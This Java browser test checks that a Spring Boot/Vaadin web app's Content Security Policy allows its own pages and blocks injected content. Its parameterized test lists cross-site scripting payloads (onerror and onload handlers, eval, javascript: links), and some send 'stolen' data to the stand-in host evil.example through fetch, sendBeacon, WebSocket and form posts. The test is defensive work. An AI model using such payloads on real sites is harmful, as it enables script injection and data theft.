package io.github.linchpin.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.linchpin.testing.Chromium;
import io.github.linchpin.testing.DatabaseTest;
import io.github.linchpin.testing.Proof;
import jakarta.servlet.ServletContext;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.function.Function;
import java.util.logging.Level;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.logging.LogEntry;
import org.openqa.selenium.logging.LogType;
import org.openqa.selenium.support.ui.WebDriverWait;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.server.LocalServerPort;

/** The policy of pages in a real browser: it hinders nothing of ours and everything of others. */
@DatabaseTest
@SpringBootTest(
        webEnvironment = WebEnvironment.RANDOM_PORT,
        properties = {"linchpin.demo=true", "linchpin.demo.ledger=false"})
@EnabledIf("io.github.linchpin.testing.Chromium#isInstalled")
class ContentPolicyIT {
    /** Something to show for each parameter of a route; a new one needs its line here. */
    private static final Map<String, String> SAMPLES =
            Map.of(
                    ":slug", "gallium",
                    ":measure", "CN-2024-46-2A",
                    ":area", "CN",
                    ":unit", "1",
                    ":supplier", "1",
                    ":secret", "nothing");

    /** Keeps what the policy stopped, from before the first script of a page on. */
    private static final String LISTEN =
            """
            window.stopped = [];
            document.addEventListener('securitypolicyviolation',
                e => window.stopped.push(e.effectiveDirective + ' ' + e.blockedURI + ' ' + e.sample));
            """;

    private static final String ADMINISTRATOR =
            "form:has(input[value='demo-administrator']) button";

    private static ChromeDriver driver;
    private static boolean signedIn;
    private static Path downloads;

    @LocalServerPort int port;
    @Autowired ServletContext context;

    @BeforeAll
    static void open() throws IOException {
        downloads = Files.createTempDirectory("downloads");
        driver = Chromium.open(downloads);
        signedIn = false; // when failed tests run again, too
        driver.executeCdpCommand("Page.addScriptToEvaluateOnNewDocument", Map.of("source", LISTEN));
    }

    @AfterAll
    static void close() {
        driver.quit();
    }

    /** The form of the demonstration is sent, as every form, under the policy. */
    @BeforeEach
    void signIn() {
        if (!signedIn) {
            go("");
            await(d -> !d.findElements(By.cssSelector(ADMINISTRATOR)).isEmpty());
            settle();
            assertThat(stopped()).as("stopped at the sign-in").isEmpty();
            assertThat(complaints()).as("console of the sign-in").isEmpty();
            driver.findElement(By.cssSelector(ADMINISTRATOR)).click();
            await(d -> !d.findElements(By.cssSelector(".lp-header")).isEmpty());
            signedIn = true;
        }
        driver.manage().logs().get(LogType.BROWSER);
    }

    /** Every fifth page in every build, all of them in the profile {@code proof}. */
    @Test
    void no_page_meets_the_policy() {
        List<String> paths =
                Stream.concat(Routes.templates(context).stream(), Stream.of("nowhere"))
                        .map(ContentPolicyIT::filled)
                        .toList();
        int step = Proof.isFull() ? 1 : 5;
        for (int i = 0; i < paths.size(); i += step) {
            String path = paths.get(i);
            go(path);
            settle(path);
            assertThat(stopped()).as("stopped at /" + path).isEmpty();
            assertThat(complaints()).as("console of /" + path).isEmpty();
        }
    }

    @Test
    void what_opens_on_a_page_does_not_meet_it_either() {
        go("inputs/gallium?on=2026-11-21");
        settle();
        driver.findElement(By.cssSelector(".lp-viewpoint__on")).click();
        await(d -> d.findElement(By.cssSelector("vaadin-popover input")).isDisplayed());
        driver.switchTo().activeElement().sendKeys(Keys.ESCAPE);
        driver.findElement(By.tagName("body")).sendKeys("/");
        driver.switchTo().activeElement().sendKeys("germanium");
        await(d -> !d.findElements(By.cssSelector(".lp-hit")).isEmpty());
        driver.switchTo().activeElement().sendKeys(Keys.ESCAPE, Keys.ESCAPE);
        driver.findElements(By.tagName("vaadin-button")).stream()
                .filter(button -> button.getText().equals("Sources"))
                .findFirst()
                .orElseThrow()
                .click();
        await(d -> !d.findElement(By.tagName("vaadin-dialog")).getText().isEmpty());
        driver.switchTo().activeElement().sendKeys(Keys.ESCAPE);
        tooltipOfTheMap();
        assertThat(stopped()).isEmpty();
        assertThat(complaints()).isEmpty();
    }

    /** A drawing is handed over as a blob that a script makes. */
    @Test
    void a_chart_and_a_table_are_still_taken_away() {
        go("inputs/gallium");
        settle();
        driver.executeScript(
                "document.querySelector('linchpin-share-map').download('map-of-gallium')");
        await(d -> Files.exists(downloads.resolve("map-of-gallium.svg")));
        driver.findElement(By.cssSelector("a[href*='VAADIN/dynamic']")).click();
        await(d -> {
            try (Stream<Path> files = Files.list(downloads)) {
                return files.anyMatch(file -> file.toString().endsWith(".csv"));
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        });
        assertThat(stopped()).isEmpty();
    }

    @Test
    void news_reach_the_page_over_a_socket() {
        driver.executeCdpCommand(
                "Page.addScriptToEvaluateOnNewDocument",
                Map.of(
                        "source",
                        """
                        window.sockets = [];
                        window.WebSocket = new Proxy(window.WebSocket, {
                          construct: (made, given) => {
                            const socket = new made(...given);
                            window.sockets.push(socket);
                            return socket;
                          },
                        });
                        """));
        go("inputs");
        settle();
        await(d ->
                Objects.equals(
                        1L,
                        script("return window.sockets.filter(s => s.readyState === 1).length")));
        assertThat(stopped()).isEmpty();
    }

    /** The ways in which text that became markup or code would run or reach another host. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "script-src-attr | page.innerHTML = '<img src=x onerror=\"window.hit = true\">'",
                "script-src-attr | page.innerHTML = '<svg onload=\"window.hit = true\"></svg>'",
                "script-src-elem | const s = document.createElement('script'); s.textContent = 'window.hit = true'; page.append(s)",
                "script-src-elem | const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; page.append(s)",
                "script-src-elem | const s = document.createElement('script'); s.src = '/VAADIN/static/push/vaadinPush-min.js'; page.append(s)",
                "script-src-elem | const s = document.createElement('script'); s.src = 'data:text/javascript,window.hit=true'; page.append(s)",
                "script-src-elem | Function('import(\\'data:text/javascript,window.hit=true\\').catch(() => 0)')()",
                "script-src-elem | Function('import(\\'https://evil.example/?stolen\\').catch(() => 0)')()",
                "script-src-elem | const a = document.createElement('a'); a.href = 'javascript:window.hit=true'; page.append(a); a.click()",
                "script-src | try { eval('window.hit = true') } catch (e) { }",
                "script-src | setTimeout('window.hit = true', 0)",
                "script-src | try { (() => 0).constructor('window.hit = true')() } catch (e) { }",
                "style-src-elem | page.innerHTML = '<style>body { display: none }</style>'",
                "style-src-attr | page.innerHTML = '<p style=\"position: fixed\">over all</p>'",
                "style-src-elem | const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.example/x.css'; page.append(l)",
                "img-src | page.innerHTML = '<img src=\"https://evil.example/?stolen\">'",
                "connect-src | fetch('https://evil.example/?stolen').catch(() => 0)",
                "connect-src | try { new WebSocket('wss://evil.example/') } catch (e) { }",
                "connect-src | navigator.sendBeacon('https://evil.example/', 'stolen')",
                "frame-src | page.innerHTML = '<iframe src=\"https://evil.example/\"></iframe>'",
                "frame-src | page.innerHTML = '<iframe src=\"/inputs\"></iframe>'",
                "object-src | page.innerHTML = '<object data=\"/icons/linchpin.svg\"></object>'",
                "base-uri | const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.prepend(b)",
                "form-action | page.innerHTML = '<form action=\"https://evil.example/\" method=post></form>'; page.firstChild.submit()",
                "worker-src | try { new Worker('data:text/javascript,0') } catch (e) { }",
                "manifest-src | document.head.insertAdjacentHTML('beforeend', '<link rel=manifest href=/icons/linchpin.svg>')"
            })
    void what_somebody_slips_in_is_stopped(String directive, String attack) {
        if (!String.valueOf(driver.getCurrentUrl()).endsWith("/countries")) {
            go("countries");
            settle();
        }
        // later, since the policy does not hold for what the driver itself runs
        script(
                """
                window.stopped = [];
                window.hit = false;
                const page = document.createElement('div');
                document.body.append(page);
                setTimeout(() => { %s }, 0);
                """
                        .formatted(attack));
        await(d -> stopped().stream().anyMatch(line -> line.startsWith(directive + " ")));
        assertThat(script("return window.hit === true")).isEqualTo(false);
    }

    private static void tooltipOfTheMap() {
        script(
                """
                const map = document.querySelector('linchpin-share-map');
                const box = map.getBoundingClientRect();
                const svg = map.shadowRoot.querySelector('#box > div');
                for (let x = 0.1; x < 1; x += 0.02) {
                  svg.dispatchEvent(new MouseEvent('mousemove', { bubbles: true,
                      clientX: box.left + box.width * x, clientY: box.top + box.height * 0.4 }));
                }
                """);
        await(d ->
                Objects.equals(
                        true,
                        script(
                                "return document.querySelector('linchpin-share-map').shadowRoot"
                                        + ".querySelectorAll('#box > div').length > 1")));
    }

    private static String filled(String template) {
        String path = template;
        for (Map.Entry<String, String> sample : SAMPLES.entrySet()) {
            path = path.replaceAll(sample.getKey() + "\\b[^/]*", sample.getValue());
        }
        assertThat(path).as("a sample for every parameter").doesNotContain(":");
        return path;
    }

    private void go(String path) {
        driver.get("http://localhost:" + port + "/" + path);
    }

    /** Until the page stands, its charts are drawn and Flow has nothing left to ask. */
    private static void settle() {
        settle("the page");
    }

    private static void settle(String page) {
        waiting(page).until(d -> !d.findElements(By.id("content")).isEmpty());
        await(d ->
                Objects.equals(
                        true,
                        script(
                                """
                                return Object.values(window.Vaadin?.Flow?.clients ?? {})
                                        .every(client => !client.isActive || !client.isActive())
                                    && [...document.querySelectorAll('linchpin-share-map, linchpin-time-series')]
                                        .filter(chart => chart.clientHeight > 0)
                                        .every(chart => chart.shadowRoot?.querySelector('svg path'))
                                """)));
    }

    private static List<String> stopped() {
        return ((List<?>) Objects.requireNonNull(script("return window.stopped")))
                .stream().map(String::valueOf).toList();
    }

    private static List<String> complaints() {
        return driver.manage().logs().get(LogType.BROWSER).getAll().stream()
                .filter(entry -> entry.getLevel().intValue() >= Level.WARNING.intValue())
                .map(LogEntry::getMessage)
                .toList();
    }

    private static @Nullable Object script(String text) {
        return driver.executeScript(text);
    }

    private static <T> T await(Function<WebDriver, T> condition) {
        return waiting("something").until(condition);
    }

    private static WebDriverWait waiting(String what) {
        WebDriverWait wait = new WebDriverWait(driver, Duration.ofSeconds(20));
        wait.withMessage(what);
        return wait;
    }
}
